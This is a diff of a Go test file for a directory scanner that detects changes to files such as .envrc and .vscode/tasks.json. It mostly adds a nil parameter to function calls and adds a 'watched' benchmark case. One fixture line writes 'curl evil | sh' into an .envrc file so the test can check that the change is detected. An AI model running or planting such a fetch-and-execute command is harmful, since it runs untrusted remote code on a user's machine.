@@ -60,7 +60,7 @@ func testScanTree(t *testing.T) {
 	write(t, filepath.Join(root, "a", "b", ".envrc"), "export A=1\n")
 	time.Sleep(50 * time.Millisecond)
 	started := time.Now()
-	before := readTree(root, nil, nil)
+	before := readTree(root, nil, nil, nil)
 	if !before.complete || len(before.Dirs) < 50 {
 		t.Fatalf("the tree was not read: %d dirs, complete %v", len(before.Dirs), before.complete)
 	}
@@ -70,7 +70,7 @@ func testScanTree(t *testing.T) {
 	appendTo(t, filepath.Join(root, "a", "b", ".envrc"), "curl evil | sh\n")
 	write(t, filepath.Join(root, "d20", "sub", ".vscode", "tasks.json"), "{}")
 	time.Sleep(30 * time.Millisecond)
-	after := readTree(root, nil, nil)
+	after := readTree(root, nil, nil, nil)
 
 	dirReads.Store(0)
 	full, _ := scanJoin(root, started, nil)
@@ -108,9 +108,9 @@ func testScanTree(t *testing.T) {
 
 	// A record whose ctime was too close to its reading is not trusted: a
 	// change in the same clock tick could keep the ctime.
-	racy := readTree(root, nil, nil)
+	racy := readTree(root, nil, nil, nil)
 	racyMargin = time.Hour
-	fresh := readTree(root, nil, nil)
+	fresh := readTree(root, nil, nil, nil)
 	for dir, td := range fresh.Dirs {
 		if td.Trusted {
 			t.Errorf("%s: trusted with a ctime %v old", dir, time.Since(td.Ctime))
@@ -140,7 +140,7 @@ func TestTreeFile(t *testing.T) {
 	}
 	write(t, filepath.Join(root, "d07", "new"), "x")
 	dirReads.Store(0)
-	pre := startPrewalk(root, file)
+	pre := startPrewalk(root, file, nil)
 	tr := walked(pre)
 	if tr == nil || len(tr.Dirs) != 41 {
 		t.Fatalf("the prewalk from the saved tree gave %v", tr)
@@ -168,7 +168,7 @@ func TestTreeFile(t *testing.T) {
 			t.Errorf("%s: the tree file written: %v, want %v", what, written, wantWritten)
 		}
 		dirReads.Store(0)
-		pre = startPrewalk(root, file)
+		pre = startPrewalk(root, file, nil)
 		tr = walked(pre)
 		if n := dirReads.Load(); n != wantReads {
 			t.Errorf("%s: the next prewalk read %d directories, want %d", what, n, wantReads)
@@ -243,7 +243,7 @@ func walked(p *prewalk) *tree {
 func TestPrewalkFinish(t *testing.T) {
 	root := t.TempDir()
 	write(t, filepath.Join(root, "a", "f"), "x")
-	p := startPrewalk(root, "")
+	p := startPrewalk(root, "", nil)
 	<-p.done
 	if tr := p.finish(nil); tr == nil || !tr.complete || len(tr.Dirs) != 2 {
 		t.Fatalf("a finished prewalk gave %+v", tr)
@@ -261,7 +261,7 @@ func TestPrewalkFinish(t *testing.T) {
 	// 1,024 entries (a tree taken as recorded has few per directory).
 	stop := make(chan struct{})
 	close(stop)
-	if tr := readTree(root, stop, nil); tr.complete || len(tr.Dirs) != 0 {
+	if tr := readTree(root, stop, nil, nil); tr.complete || len(tr.Dirs) != 0 {
 		t.Errorf("a walk told to stop read %d directories (complete %v)", len(tr.Dirs), tr.complete)
 	}
 	// A reading still going: it ends only when told to stop.
@@ -306,17 +306,24 @@ func BenchmarkScanAfterRun(b *testing.B) {
 	shortRacyMargin(b)
 	time.Sleep(50 * time.Millisecond)
 	started := time.Now()
-	tr := readTree(root, nil, nil)
+	tr := readTree(root, nil, nil, nil)
 	time.Sleep(20 * time.Millisecond)
 	for i := 0; i < 10; i++ {
 		if err := os.WriteFile(filepath.Join(root, fmt.Sprintf("d%03d", i*97), "f001"), []byte("changed"), 0o644); err != nil {
 			b.Fatal(err)
 		}
 	}
-	for _, c := range []struct {
+	cases := []struct {
 		name string
 		t    *tree
-	}{{"full", nil}, {"prewalked", tr}} {
+	}{{"full", nil}, {"prewalked", tr}}
+	if watched := benchWatchedTree(b, root, tr); watched != nil {
+		cases = append(cases, struct {
+			name string
+			t    *tree
+		}{"watched", watched})
+	}
+	for _, c := range cases {
 		b.Run(c.name, func(b *testing.B) {
 			for b.Loop() {
 				if f, _ := scan(root, started, nil, nil, nil, c.t); len(f) != 0 {
@@ -331,7 +338,7 @@ func BenchmarkScanAfterRun(b *testing.B) {
 	}{{"prewalk", nil}, {"prewalk-from-previous-run", tr}} {
 		b.Run(c.name, func(b *testing.B) {
 			for b.Loop() {
-				if t := readTree(root, nil, c.prev); !t.complete {
+				if t := readTree(root, nil, c.prev, nil); !t.complete {
 					b.Fatal("incomplete")
 				}
 			}
